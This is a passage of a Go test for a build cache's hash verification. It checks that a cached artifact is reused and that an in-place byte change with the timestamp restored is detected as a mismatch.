		t.Fatalf("rebuilt to %s; want the cached %s", again.Path, built.Path)
	}
	if got, ok := VerifiedSHA256(built.Path, mustStat(t, built.Path)); !ok || got != want {
		t.Errorf("VerifiedSHA256 after the cache check: %q, %v; want %s", got, ok, want)
	}

	if fileIdentity(mustStat(t, built.Path)) == "" {
		t.Skip("this platform reports no file identity: a rewrite keeping size and modification time passes for the same file")
	}
	before := mustStat(t, built.Path)
	forged := readFile(t, built.Path)
	forged[len(forged)/2] ^= 0xff
	if err := os.WriteFile(built.Path, forged, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Chtimes(built.Path, before.ModTime(), before.ModTime()); err != nil {
		t.Fatal(err)
	}
	if got, ok := VerifiedSHA256(built.Path, mustStat(t, built.Path)); ok {
		t.Errorf("VerifiedSHA256 after an in-place rewrite: %q; want false", got)
	}
}
